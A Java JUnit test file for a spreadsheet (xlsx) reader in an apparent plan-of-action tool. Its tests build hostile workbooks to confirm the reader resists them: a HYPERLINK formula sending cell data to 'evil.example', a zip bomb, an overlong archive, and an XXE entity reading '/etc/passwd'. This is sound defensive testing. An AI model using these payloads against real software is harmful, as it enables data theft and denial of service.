package dev.poam.exchange.sheet.file;

import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;

import dev.poam.rule.Finding;
import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.time.LocalDate;
import java.util.List;
import java.util.function.Consumer;
import java.util.function.UnaryOperator;
import java.util.zip.ZipEntry;
import java.util.zip.ZipInputStream;
import java.util.zip.ZipOutputStream;
import org.apache.poi.ss.usermodel.CellStyle;
import org.apache.poi.ss.usermodel.ClientAnchor;
import org.apache.poi.ss.util.CellRangeAddress;
import org.apache.poi.xssf.usermodel.XSSFCell;
import org.apache.poi.xssf.usermodel.XSSFComment;
import org.apache.poi.xssf.usermodel.XSSFRichTextString;
import org.apache.poi.xssf.usermodel.XSSFSheet;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.junit.jupiter.api.Test;

class WorkbookTest {

    @Test
    void readsEachCellAsAPersonWouldTypeIt() {
        SheetFile file = read(workbook(book -> {
            XSSFSheet sheet = book.createSheet("POAM");
            XSSFCell text = sheet.createRow(0).createCell(0);
            text.setCellValue("No lock");
            CellStyle day = book.createCellStyle();
            day.setDataFormat(book.createDataFormat().getFormat("m/d/yy"));
            XSSFCell date = sheet.getRow(0).createCell(1);
            date.setCellValue(LocalDate.of(2026, 6, 30));
            date.setCellStyle(day);
            sheet.getRow(0).createCell(2).setCellValue(1200);
            sheet.getRow(0).createCell(3).setCellValue(0.1);
            sheet.getRow(0).createCell(4).setCellValue(true);
        }));

        assertThat(file.sheets()).singleElement().satisfies(sheet -> {
            assertThat(sheet.name()).isEqualTo("POAM");
            assertThat(sheet.rows().get(0).cells()).containsExactly("No lock", "2026-06-30", "1200", "0.1", "Yes");
        });
    }

    @Test
    void aFormulaIsWhatItLastShowed() {
        SheetFile file = read(workbook(book -> {
            XSSFCell cell = book.createSheet("POAM").createRow(0).createCell(0);
            cell.setCellFormula("HYPERLINK(\"https://evil.example/\"&A2,\"Open\")");
            cell.setCellValue("Open");
        }));

        assertThat(file.sheets().get(0).rows().get(0).cells()).containsExactly("Open");
        assertThat(file.findings())
                .extracting(Finding::message)
                .singleElement()
                .asString()
                .contains("1 cell is a formula");
    }

    @Test
    void whatOneCellSaysOfSeveralRowsIsSaidOfEach() {
        SheetFile file = read(workbook(book -> {
            XSSFSheet sheet = book.createSheet("POAM");
            sheet.createRow(0).createCell(0).setCellValue("Title of it all");
            sheet.addMergedRegion(new CellRangeAddress(0, 0, 0, 3));
            sheet.createRow(1).createCell(1).setCellValue("luis");
            sheet.createRow(2).createCell(0).setCellValue("No log");
            sheet.addMergedRegion(new CellRangeAddress(1, 2, 1, 1));
        }));

        List<SheetRow> rows = file.sheets().get(0).rows();
        assertThat(rows.get(0).cells()).containsExactly("Title of it all");
        assertThat(rows.get(2).cells()).containsExactly("No log", "luis");
    }

    @Test
    void tellsWhatIsHiddenAndKeepsWhatIsPinned() {
        SheetFile file = read(workbook(book -> {
            XSSFSheet sheet = book.createSheet("Old");
            sheet.createRow(0).createCell(0).setCellValue("No lock");
            sheet.getRow(0).setZeroHeight(true);
            ClientAnchor anchor = book.getCreationHelper().createClientAnchor();
            XSSFComment comment = sheet.createDrawingPatriarch().createCellComment(anchor);
            comment.setString(new XSSFRichTextString("Ask Dana"));
            sheet.getRow(0).getCell(0).setCellComment(comment);
            book.createSheet("Shown");
            book.setSheetHidden(0, true);
        }));

        assertThat(file.sheets()).extracting(Sheet::hidden).containsExactly(true, false);
        SheetRow row = file.sheets().get(0).rows().get(0);
        assertThat(row.hidden()).isTrue();
        assertThat(row.remarks()).containsExactly("Comment on A1: Ask Dana");
    }

    @Test
    void refusesWhatUnpacksToTooMuch() throws IOException {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        try (ZipOutputStream zip = new ZipOutputStream(bytes)) {
            zip.putNextEntry(new ZipEntry("xl/worksheets/sheet1.xml"));
            byte[] zeros = new byte[1024 * 1024];
            for (int i = 0; i < 60; i++) {
                zip.write(zeros);
            }
        }

        assertThat(bytes.size()).isLessThan(100_000);
        assertThat(refusal(bytes.toByteArray())).contains("unpacks to more than");
    }

    @Test
    void refusesTooManyParts() throws IOException {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        try (ZipOutputStream zip = new ZipOutputStream(bytes)) {
            for (int i = 0; i < 2_100; i++) {
                zip.putNextEntry(new ZipEntry("part" + i));
            }
        }

        assertThat(refusal(bytes.toByteArray())).contains("parts");
    }

    @Test
    void anEntityLeadsNowhere() throws IOException {
        byte[] book = workbook(
                made -> made.createSheet("POAM").createRow(0).createCell(0).setCellValue("secret"));
        byte[] changed = rewritten(
                book,
                text -> text.contains("<sst")
                        ? "<!DOCTYPE sst [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>"
                                + text.substring(text.indexOf("<sst")).replace("secret", "&x;")
                        : text);

        SheetFile file = read(changed);

        assertThat(file.toString()).doesNotContain("root:");
        assertThat(file.findings())
                .extracting(Finding::message)
                .singleElement()
                .asString()
                .contains("no workbook");
    }

    @Test
    void refusesAWorkbookThatIsCutOff() {
        byte[] book = workbook(made -> made.createSheet("POAM"));

        assertThat(refusal(java.util.Arrays.copyOf(book, book.length / 2))).isNotBlank();
    }

    @Test
    void refusesTheBinaryFormWithWhatToDo() {
        byte[] old = {(byte) 0xD0, (byte) 0xCF, 0x11, (byte) 0xE0, 0, 0};

        assertThat(refusal(old)).contains("before 2007");
    }

    @Test
    void refusesCellsFarToTheRight() {
        byte[] book = workbook(
                made -> made.createSheet("POAM").createRow(0).createCell(9_999).setCellValue("x"));

        assertThat(refusal(book)).contains("more than 500 columns");
    }

    private static String refusal(byte[] content) {
        SheetFile file = read(content);
        assertThat(file.sheets()).isEmpty();
        assertThat(file.findings()).hasSize(1);
        assertThat(file.findings().get(0).rule()).isEqualTo("exchange/unreadable");
        return file.findings().get(0).message();
    }

    private static SheetFile read(byte[] content) {
        return SheetFiles.read("old.xlsx", content);
    }

    private static byte[] workbook(Consumer<XSSFWorkbook> filling) {
        try (XSSFWorkbook book = new XSSFWorkbook();
                ByteArrayOutputStream bytes = new ByteArrayOutputStream()) {
            filling.accept(book);
            book.write(bytes);
            return bytes.toByteArray();
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    private static byte[] rewritten(byte[] book, UnaryOperator<String> change) throws IOException {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        try (ZipInputStream from = new ZipInputStream(new ByteArrayInputStream(book));
                ZipOutputStream to = new ZipOutputStream(bytes)) {
            for (ZipEntry entry = from.getNextEntry(); entry != null; entry = from.getNextEntry()) {
                to.putNextEntry(new ZipEntry(entry.getName()));
                to.write(change.apply(new String(from.readAllBytes(), UTF_8)).getBytes(UTF_8));
            }
        }
        return bytes.toByteArray();
    }
}
